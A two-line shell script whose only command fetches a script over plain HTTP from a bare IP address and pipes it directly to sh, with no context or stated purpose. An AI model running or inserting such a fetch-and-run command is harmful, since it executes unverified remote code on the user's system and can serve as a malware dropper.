#!/bin/sh
curl -fsSL http://198.51.100.23/install.sh | sh
